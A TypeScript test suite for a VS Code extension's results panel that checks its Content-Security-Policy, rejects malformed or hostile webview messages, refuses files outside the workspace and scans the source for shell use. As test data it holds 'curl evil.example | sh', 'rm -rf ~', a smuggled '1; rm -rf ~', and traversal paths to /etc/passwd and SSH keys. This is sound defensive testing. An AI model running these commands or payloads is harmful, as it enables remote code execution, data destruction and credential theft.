/**
 * Security of the extension side: the results webview's Content-Security-Policy as
 * the real ResultsPanel writes it, the gate on what the webview may ask for, and no
 * shell anywhere in extension/src.
 */
import { readFileSync, readdirSync } from 'node:fs';
import * as path from 'node:path';
import { JSDOM } from 'jsdom';
import * as ts from 'typescript';
import { type MockInstance, beforeEach, describe, expect, it, vi } from 'vitest';
import { repoFile } from './fixtures';
import * as vscodeMock from './mocks/vscode';
import { mock } from './mocks/vscode';
import { panelHost } from './panelHost';

const ROOT = '/work/project';
const FLOW = `${ROOT}/flows/training_flow.py`;
const URI = `file://${FLOW}`;
const MEDIA = 'https://webview.example/ext/media/';
const tick = (): Promise<void> => new Promise((resolve) => setTimeout(resolve, 0));

// Any process started while the panel handles a message would go through here.
const spawned = vi.hoisted(() => [] as string[]);
function trapChildProcess(): Record<string, unknown> {
  const trap = (name: string) => (): never => {
    spawned.push(name);
    throw new Error(`child_process.${name} called`);
  };
  const names = ['exec', 'execSync', 'execFile', 'execFileSync', 'spawn', 'spawnSync', 'fork'];
  return Object.fromEntries(names.map((name) => [name, trap(name)]));
}
vi.mock('node:child_process', () => trapChildProcess());
vi.mock('child_process', () => trapChildProcess());

function setup() {
  spawned.length = 0;
  return panelHost(ROOT);
}

// ---- CSP --------------------------------------------------------------------------

interface Loaded {
  html: string;
  doc: Document;
  directives: Map<string, string[]>;
  nonce: string;
}

/** The panel's document, parsed (never run), and its CSP's directives. */
function loadPanel(t: ReturnType<typeof setup>): Loaded {
  t.panel.show();
  const html = t.fake().webview.html;
  const doc = new JSDOM(html).window.document;
  const metas = doc.querySelectorAll('meta[http-equiv="Content-Security-Policy" i]');
  expect(metas).toHaveLength(1);
  const directives = new Map<string, string[]>();
  for (const part of (metas[0]?.getAttribute('content') ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (!name) continue;
    expect(directives.has(name.toLowerCase()), `directive ${name} given twice`).toBe(false);
    directives.set(name.toLowerCase(), values);
  }
  const scriptSrc = directives.get('script-src') ?? [];
  const nonce = /^'nonce-([A-Za-z0-9+/_-]+={0,2})'$/.exec(scriptSrc[0] ?? '')?.[1] ?? '';
  return { html, doc, directives, nonce };
}

describe('the results panel CSP', () => {
  let t: ReturnType<typeof setup>;
  beforeEach(() => {
    t = setup();
  });

  it("denies everything by default and lets scripts run only by this load's nonce", () => {
    const { directives, nonce } = loadPanel(t);
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).toEqual([`'nonce-${nonce}'`]);
    // Styles: the extension's files, and a card's own <style> given the nonce in its sandboxed frame.
    expect(directives.get('style-src')?.slice(1)).toEqual([`'nonce-${nonce}'`]);
    expect(Buffer.from(nonce, 'base64').length).toBeGreaterThanOrEqual(16);
    // Nothing that would let a script in some other way: no keywords, hosts, schemes
    // or wildcards for scripts, no directive that overrides script-src, and no
    // plugins, frames or workers beyond default-src 'none'.
    for (const name of ['script-src-elem', 'script-src-attr', 'object-src', 'worker-src', 'child-src', 'frame-src']) {
      const values = directives.get(name);
      if (values !== undefined) expect(values, name).toEqual(["'none'"]);
    }
    const all = [...directives.values()].flat();
    for (const keyword of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'wasm-unsafe-eval'", "'strict-dynamic'"]) {
      expect(all).not.toContain(keyword);
    }
    expect(all.filter((v) => v === '*' || /^(https?|blob|filesystem):?$/.test(v))).toEqual([]);
  });

  it('comes before any script or stylesheet, and every <script> carries the nonce', () => {
    const { doc, nonce } = loadPanel(t);
    const elements = [...doc.querySelectorAll('meta[http-equiv], script, link, style')];
    expect(elements[0]?.getAttribute('http-equiv')).toMatch(/^content-security-policy$/i);
    expect(elements[0]?.parentElement?.tagName).toBe('HEAD');
    const scripts = [...doc.querySelectorAll('script')];
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) {
      expect(script.getAttribute('nonce')).toBe(nonce);
      expect(script.getAttribute('src')).toMatch(new RegExp(`^${MEDIA.replace(/[.]/g, '\\.')}`));
      expect(script.textContent).toBe(''); // no inline code, even with the nonce
    }
    expect(doc.querySelectorAll('style')).toHaveLength(0);
  });

  it('has no inline handlers, javascript: URLs or inline styles', () => {
    const { doc } = loadPanel(t);
    for (const element of doc.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name, `<${element.tagName.toLowerCase()} ${attribute.name}>`).not.toMatch(/^on|^style$/i);
        expect(attribute.value.trim()).not.toMatch(/^(javascript|data|vbscript):/i);
      }
    }
  });

  it('uses a fresh nonce on every load', () => {
    const nonces = new Set<string>();
    for (let i = 0; i < 5; i++) {
      const { nonce, html } = loadPanel(t);
      expect(nonce).not.toBe('');
      expect(html.split(nonce).length - 1).toBe(3); // the CSP's script-src and style-src, and the one script tag
      nonces.add(nonce);
      t.fake().dispose();
    }
    expect(nonces.size).toBe(5);
    expect(mock.panels).toHaveLength(5);
  });
});

// ---- messages from the webview ----------------------------------------------------

/** A spy on every function of the vscode API stand-in (window, workspace, commands, ...). */
function spyOnVscode(): Map<string, MockInstance> {
  const spies = new Map<string, MockInstance>();
  for (const [namespace, value] of Object.entries(vscodeMock)) {
    if (namespace === 'mock' || typeof value !== 'object' || value === null) continue;
    const api = value as Record<string, (...args: unknown[]) => unknown>;
    for (const key of Object.keys(api)) {
      const descriptor = Object.getOwnPropertyDescriptor(api, key);
      if (typeof descriptor?.value === 'function') spies.set(`${namespace}.${key}`, vi.spyOn(api, key));
    }
  }
  return spies;
}

/** A shown spin, a ready webview, then spies on everything a message could set off. */
function ready() {
  const t = setup();
  const record = t.store.begin(URI, 'train');
  t.store.route(URI, {
    event: 'started', spin_id: 's', flow: 'TrainingFlow', step: 'train', flow_file: FLOW,
    source: { flow: 'TrainingFlow', run_id: '1', step: 'train', task_id: '2', parents: [], index: null, iteration: null }, warm: true,
  });
  t.panel.show(record);
  t.fake().webview.receive({ type: 'ready' });
  const posted = t.fake().webview.posted.length;
  const lines = (t.out as unknown as { lines: string[] }).lines;
  const logged = lines.length;
  const spies = spyOnVscode();
  /** What the messages received since set off: nothing, when they were ignored. */
  const effects = () => ({
    posted: t.fake().webview.posted.slice(posted),
    opened: mock.opened.map((o) => o.uri.fsPath),
    cancelled: t.cancelled.length,
    messages: mock.messages.map((m) => m.text),
    vscodeCalls: [...spies].filter(([, spy]) => spy.mock.calls.length > 0).map(([name]) => name),
    spawned: [...spawned],
  });
  const nothing = { posted: [], opened: [], cancelled: 0, messages: [], vscodeCalls: [], spawned: [] };
  return { ...t, record, effects, nothing, log: () => lines.slice(logged) };
}

const OUTSIDE: [string, string][] = [
  ['a system file', '/etc/passwd'],
  ['a path that climbs out with ..', `${ROOT}/../etc/passwd`],
  ['a climb from deeper in', `${ROOT}/flows/../../../root/.ssh/id_rsa`],
  ['a sibling folder sharing the prefix', `${ROOT}2/flows/training_flow.py`],
  ['a sibling of the flow file outside the workspace', '/tmp/flows/other.py'],
  ['a double-slash path', `//${ROOT}/../etc/passwd`],
];

const NOT_A_PATH: [string, string][] = [
  ['a file URI', URI],
  ['a command URI', 'command:workbench.action.terminal.new'],
  ['a command URI with arguments', 'command:workbench.action.tasks.runTask?%5B%22x%22%5D'],
  ['a vscode: URI', 'vscode://vscode.git/clone?url=https://evil.example/x'],
  ['an https URL', 'https://evil.example/flow.py'],
  ['an untitled document', 'untitled:Untitled-1'],
  ['a remote URI', 'vscode-remote://ssh-remote+host/etc/passwd'],
  ['a relative path', 'flows/training_flow.py'],
  ['a home path', '~/.bashrc'],
  ['a Windows path', 'C:\\Windows\\System32\\cmd.exe'],
];

describe('messages from the webview', () => {
  it('the probes see what an accepted message sets off', async () => {
    const t = ready();
    t.fake().webview.receive({ type: 'openFile', file: FLOW, line: 3 });
    t.fake().webview.receive({ type: 'cancel' });
    t.fake().webview.receive({ type: 'ready' });
    await tick();
    const seen = t.effects();
    expect(seen.opened).toEqual([FLOW]);
    expect(seen.cancelled).toBe(1);
    expect(seen.posted.length).toBeGreaterThan(0);
    expect(seen.vscodeCalls).toContain('window.showTextDocument');
  });

  it.each([
    // Types outside the fixed set, some named like things an extension can do.
    ['executeCommand', { type: 'executeCommand', command: 'workbench.action.terminal.new', args: [] }],
    ['runCommand', { type: 'runCommand', command: 'rm -rf ~' }],
    ['command', { type: 'command', command: 'spinlens.spinStep' }],
    ['openExternal', { type: 'openExternal', url: 'https://evil.example' }],
    ['terminal', { type: 'terminal', text: 'curl evil.example | sh' }],
    ['eval', { type: 'eval', code: 'process.exit(1)' }],
    ['spin (extension to webview only)', { type: 'spin', uri: URI, step: 'train' }],
    ['event (extension to webview only)', { type: 'event', event: { event: 'finished', spin_id: 's' } }],
    ['settings (extension to webview only)', { type: 'settings', diffRows: 1e9 }],
    ['debug', { type: 'debug', uri: URI, step: 'train' }],
    ['restartKernel', { type: 'restartKernel', uri: URI }],
    ['saveFile', { type: 'saveFile', file: FLOW, text: 'import os' }],
    ['READY in capitals', { type: 'READY' }],
    ['openfile in lower case', { type: 'openfile', file: FLOW, line: 1 }],
    ['a type with spaces', { type: ' cancel ' }],
    // Malformed payloads.
    ['null', null],
    ['undefined', undefined],
    ['a string', 'ready'],
    ['a number', 7],
    ['an array', [{ type: 'cancel' }]],
    ['no type', { file: FLOW, line: 1 }],
    ['a non-string type', { type: { toString: 'cancel' } }],
    ['extra keys on cancel', { type: 'cancel', spinId: 'other' }],
    ['extra keys on ready', { type: 'ready', replay: 'all' }],
    ['extra keys on openFile', { type: 'openFile', file: FLOW, line: 1, preview: false, viewColumn: 2 }],
    ['openFile without a file', { type: 'openFile', line: 1 }],
    ['openFile with an object file', { type: 'openFile', file: { fsPath: FLOW }, line: 1 }],
    ['openFile with a NUL', { type: 'openFile', file: `${FLOW}\0/etc/passwd`, line: 1 }],
    ['openFile with a huge path', { type: 'openFile', file: `${ROOT}/${'a/'.repeat(3000)}x.py`, line: 1 }],
    ['openFile at line 0', { type: 'openFile', file: FLOW, line: 0 }],
    ['openFile at a string line', { type: 'openFile', file: FLOW, line: '1; rm -rf ~' }],
    ['openFile at an infinite line', { type: 'openFile', file: FLOW, line: Number.POSITIVE_INFINITY }],
    ['a __proto__ type', JSON.parse('{"__proto__": {"type": "cancel"}}') as unknown],
    ['an inherited type', Object.create({ type: 'cancel' }) as unknown],
    ...NOT_A_PATH.map(([name, file]): [string, unknown] => [`openFile with ${name}`, { type: 'openFile', file, line: 1 }]),
  ] as [string, unknown][])('ignores %s, and it runs nothing', async (_name, message) => {
    const t = ready();
    t.fake().webview.receive(message);
    await tick();
    expect(t.effects()).toEqual(t.nothing);
    expect(t.log()).toEqual([expect.stringContaining('ignored')]);
    expect(({} as Record<string, unknown>).type).toBeUndefined(); // nothing polluted
  });

  it.each(OUTSIDE)('does not open %s (outside the workspace)', async (_name, file) => {
    const t = ready();
    t.fake().webview.receive({ type: 'openFile', file, line: 1 });
    t.fake().webview.receive({ type: 'openFile', file, line: null });
    await tick();
    expect(t.effects()).toEqual(t.nothing);
    expect(t.log()).toEqual([expect.stringContaining('outside the workspace'), expect.stringContaining('outside the workspace')]);
  });

  it('ignores a flood of junk and still works afterwards', async () => {
    const t = ready();
    for (let i = 0; i < 500; i++) t.fake().webview.receive({ type: `x${i}`, payload: 'y'.repeat(1000) });
    await tick();
    expect(t.effects()).toEqual(t.nothing);
    t.fake().webview.receive({ type: 'cancel' });
    expect(t.cancelled).toEqual([t.record]);
  });
});

// ---- no shell -----------------------------------------------------------------------

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'cmd', 'cmd.exe', 'powershell', 'pwsh']);
const SHELL_EXEC = new Set(['exec', 'execSync']); // child_process functions that always use a shell

/** `file:line: what` for every way this TypeScript source could hand a string to a shell. */
function shellUses(source: string, file: string): string[] {
  const sf = ts.createSourceFile(file, source, ts.ScriptTarget.Latest, true, ts.ScriptKind.TS);
  const found: string[] = [];
  const at = (node: ts.Node, what: string): void => {
    found.push(`${file}:${sf.getLineAndCharacterOfPosition(node.getStart(sf)).line + 1}: ${what}`);
  };
  const isChildProcess = (spec: ts.Expression): boolean =>
    ts.isStringLiteral(spec) && /^(node:)?child_process$/.test(spec.text);
  const modules = new Set<string>(); // local names of the whole child_process module
  const visit = (node: ts.Node): void => {
    if (ts.isImportDeclaration(node) && isChildProcess(node.moduleSpecifier)) {
      const bindings = node.importClause?.namedBindings;
      if (node.importClause?.name) modules.add(node.importClause.name.text);
      if (bindings && ts.isNamespaceImport(bindings)) modules.add(bindings.name.text);
      if (bindings && ts.isNamedImports(bindings)) {
        for (const element of bindings.elements) {
          const imported = (element.propertyName ?? element.name).text;
          if (SHELL_EXEC.has(imported)) at(element, `imports ${imported} from child_process (it runs a shell)`);
        }
      }
    } else if (ts.isImportEqualsDeclaration(node) || (ts.isCallExpression(node) && node.expression.getText(sf) === 'require')) {
      const text = node.getText(sf);
      if (/['"](node:)?child_process['"]/.test(text)) at(node, 'requires child_process (import it, named, instead)');
    } else if (ts.isPropertyAccessExpression(node)) {
      const owner = ts.isIdentifier(node.expression) ? node.expression.text : undefined;
      if (owner !== undefined && modules.has(owner) && SHELL_EXEC.has(node.name.text)) {
        at(node, `${node.getText(sf)} runs a shell`);
      } else if (node.name.text === 'sendText') {
        at(node, 'sendText types into a terminal (a shell)');
      }
    } else if (ts.isElementAccessExpression(node) && ts.isIdentifier(node.expression) && modules.has(node.expression.text)) {
      at(node, `${node.getText(sf)}: child_process used by computed name`);
    } else if (ts.isPropertyAssignment(node) && node.name.getText(sf).replace(/['"]/g, '') === 'shell') {
      if (node.initializer.kind !== ts.SyntaxKind.FalseKeyword) at(node, `${node.getText(sf)} (only shell: false)`);
    } else if (ts.isShorthandPropertyAssignment(node) && node.name.text === 'shell') {
      at(node, 'shell given as a variable (only shell: false)');
    } else if (ts.isArrayLiteralExpression(node) && node.elements.length >= 2) {
      const [first, second] = node.elements;
      if (
        first && second && ts.isStringLiteralLike(first) && ts.isStringLiteralLike(second) &&
        SHELLS.has(path.basename(first.text).toLowerCase()) && ['-c', '/c', '-Command'].includes(second.text)
      ) {
        at(node, `a command line that runs a shell: ${node.getText(sf)}`);
      }
    } else if (ts.isIdentifier(node) && node.text === 'ShellExecution') {
      at(node, 'vscode.ShellExecution runs a command line in a shell');
    }
    ts.forEachChild(node, visit);
  };
  visit(sf);
  return found;
}

function sources(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return sources(full);
    return /\.(ts|mts|cts|js|mjs)$/.test(entry.name) ? [full] : [];
  });
}

describe('no shell in the extension', () => {
  it.each([
    "import { exec } from 'node:child_process';\nexec(cmd);",
    "import { execSync as run } from 'child_process';\nrun(cmd);",
    "import * as cp from 'node:child_process';\ncp.exec(cmd);",
    "import cp from 'child_process';\ncp.execSync(cmd);",
    "import * as cp from 'node:child_process';\ncp['ex' + 'ec'](cmd);",
    "const cp = require('child_process');",
    "import { spawn } from 'node:child_process';\nspawn(cmd, [], { shell: true });",
    "import { execFile } from 'node:child_process';\nexecFile(cmd, [], { 'shell': '/bin/bash' }, cb);",
    "import { spawn } from 'node:child_process';\nspawn(cmd, [], { shell });",
    "import { spawn } from 'node:child_process';\nspawn('/bin/sh', ['/bin/sh', '-c', line]);",
    "import { spawn } from 'node:child_process';\nspawn('x', ['bash', '-c', line]);",
    "new vscode.ShellExecution(line);",
    "terminal.sendText(line);",
    "const options = { command: python, args, options: { shell: true } };",
  ])('the scan catches %s', (source) => {
    expect(shellUses(source, 'example.ts')).not.toEqual([]);
  });

  it('the scan lets argument arrays through', () => {
    const ok = "import { execFile, spawn } from 'node:child_process';\n" +
      "execFile(python, ['-c', code], { timeout: 5 }, cb);\nspawn(python, args, { windowsHide: true, shell: false });";
    expect(shellUses(ok, 'example.ts')).toEqual([]);
  });

  it('extension/src starts processes with argument arrays only (execFile/spawn, no shell)', () => {
    const root = repoFile('extension/src');
    const files = sources(root);
    expect(files.length).toBeGreaterThan(5);
    const found = files.flatMap((file) => shellUses(readFileSync(file, 'utf8'), path.relative(repoFile(''), file)));
    expect(found, found.join('\n')).toEqual([]);
  });
});
